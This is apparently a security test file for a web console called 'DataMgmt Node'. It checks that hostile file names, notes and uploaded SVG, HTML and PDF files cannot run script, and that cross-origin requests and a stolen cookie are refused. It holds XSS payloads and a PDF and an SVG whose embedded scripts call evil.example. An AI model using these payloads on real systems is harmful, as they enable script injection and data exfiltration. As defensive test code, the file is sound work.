// What strangers can do to the console: nothing.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { open, World } from "./support.mjs";

const world = new World();
before(() => world.start());
after(() => world.stop());

const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\("pdf"\\);this.submitForm\\("http://evil.example/"\\);)>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj
trailer<</Root 1 0 R>>
`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="top.document.title='owned'">
<script>top.document.title="owned"; fetch("http://evil.example/")</script>
<image href="http://evil.example/x.png" width="10" height="10"/><rect width="200" height="100" fill="teal"/></svg>`;
const HTML = `<title>x</title><script>parent.document.title="owned"</script><img src=http://evil.example/y.png onerror="alert(1)">`;

test("hostile names, labels and notes are text", async () => {
  const names = ["<img src=x onerror=alert(1)>.txt", "😀".repeat(255), "{{constructor}} ${1+1}.txt", "اسم عربي fdp.exe"];
  for (const name of names) await world.beta.share("alpha", `named ${name}`, { name, labels: { note: "<script>alert(1)</script>" } });
  await world.alpha.ask("PUT", "/contacts/mallory", { address: "0x15d34AAf54267DB7D7c367839AAf71A00a2C6A65", trust: "ask", note: "\u202e<b onclick=alert(1)>evil" }).catch(() => {});
  const page = await world.signedIn(world.alpha, { viewport: { width: 360, height: 740 } });
  await open(page, "inbox");
  const lines = page.locator(".virtual li");
  await page.waitForFunction((count) => document.querySelectorAll(".virtual li").length >= count, names.length);
  const shown = (await lines.allInnerTexts()).join("\n");
  for (const name of names) assert.ok(shown.includes(name), name);
  for (let index = 0; index < names.length; index += 1) {
    await open(page, "inbox");
    await lines.nth(index).getByRole("link").click();
    await page.getByText("<script>alert(1)</script>").waitFor();
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360);
  }
  await open(page, "admin/contacts");
  await page.getByRole("button", { name: "Menu" }).waitFor();
  assert.equal(await page.locator("main script, main b, main img").count(), 0);
  assert.deepEqual(page.faults, []);
});

for (const [kind, bytes, type] of [["svg", SVG, "image/svg+xml"], ["html", HTML, "text/html"], ["pdf", PDF, "application/pdf"]]) {
  test(`a hostile ${kind} is looked at and does nothing`, async () => {
    const hash = await world.beta.share("alpha", bytes, { name: `look.${kind}`, type });
    const page = await world.signedIn(world.alpha);
    await open(page, `inbox/${hash}`).catch(() => {});
    await page.getByRole("button", { name: "Show a preview" }).click();
    const shown = { svg: page.locator(".preview img"), html: page.locator(".preview pre"), pdf: page.locator(".preview iframe") }[kind];
    await shown.waitFor();
    if (kind === "svg") assert.equal(await shown.evaluate((image) => image.decode().then(() => image.naturalWidth)), 200);
    if (kind === "html") assert.match(await shown.innerText(), /<script>/);
    await page.waitForTimeout(500);
    assert.match(await page.title(), /DataMgmt Node/);
    assert.deepEqual(page.faults.filter((fault) => !fault.includes("evil.example") || fault.startsWith("request")), []);
    // Opened by itself it is a download, and no page.
    const direct = await page.request.get(`${world.alpha.console}/api/objects/${hash}`);
    assert.equal(direct.headers()["content-security-policy"], "default-src 'none'; sandbox");
    assert.match(direct.headers()["content-disposition"], /^attachment/);
  });
}

test("a page of another origin can neither read nor write, with the cookie or without", async () => {
  const foreign = createServer((_, response) => response.setHeader("Content-Type", "text/html").end("<title>foreign</title>"));
  await new Promise((resolve) => foreign.listen(0, "127.0.0.1", resolve));
  const { port } = foreign.address();
  try {
    const page = await world.signedIn(world.alpha);
    // The same host on another port gets the cookie sent, for cookies know no ports; another name does not.
    for (const host of ["127.0.0.1", "localhost"]) {
      await page.goto(`http://${host}:${port}/`);
      const tried = await page.evaluate(async (console) => {
        const outcome = async (work) => work().then((value) => value, (error) => error.name);
        const socket = () => new Promise((resolve) => {
          const wire = new WebSocket(`${console.replace("http", "ws")}/ws`);
          wire.onmessage = () => resolve("message");
          wire.onerror = () => resolve("refused");
        });
        return {
          read: await outcome(() => fetch(`${console}/api/session`, { credentials: "include" }).then((answer) => answer.text())),
          blind: await outcome(() => fetch(`${console}/api/contacts/x`, { method: "POST", mode: "no-cors", credentials: "include", body: "{}" }).then((answer) => answer.type)),
          write: await outcome(() => fetch(`${console}/api/contacts/planted`, { method: "PUT", credentials: "include", headers: { "Content-Type": "application/json" }, body: "{}" }).then((answer) => answer.status)),
          socket: await socket(),
        };
      }, world.alpha.console);
      assert.deepEqual([tried.read, tried.write, tried.socket], ["TypeError", "TypeError", "refused"], host);
      const frame = await page.evaluate((console) => new Promise((resolve) => {
        const element = document.body.appendChild(document.createElement("iframe"));
        element.onload = () => {
          try {
            resolve(element.contentDocument?.title ?? "closed");
          } catch {
            resolve("closed");
          }
        };
        element.src = console;
      }), world.alpha.console);
      assert.equal(frame, "closed", "the console is in no frame");
    }
    const { contacts } = await world.alpha.ask("GET", "/contacts");
    assert.ok(!contacts.some(({ name }) => name === "planted"));
  } finally {
    foreign.close();
  }
});

test("a stolen cookie is of no use from another origin, nor without the token", async () => {
  const page = await world.signedIn(world.alpha);
  const [{ name, value }] = await page.context().cookies();
  const cookie = `${name}=${value}`;
  const url = `${world.alpha.console}/api/contacts/stolen`;
  const contact = JSON.stringify({ address: world.beta.address, trust: "accept" });
  const put = (headers) => fetch(url, { method: "PUT", body: contact, headers: { cookie, "Content-Type": "application/json", ...headers } });
  assert.equal((await put({ origin: "https://evil.example" })).status, 403);
  assert.equal((await put({})).status, 403);
  assert.equal((await put({ "X-CSRF-Token": "0".repeat(64) })).status, 403);
  assert.equal((await fetch(`${world.alpha.console}/api/shares`, { headers: { cookie, origin: "null" } })).status, 403);
});
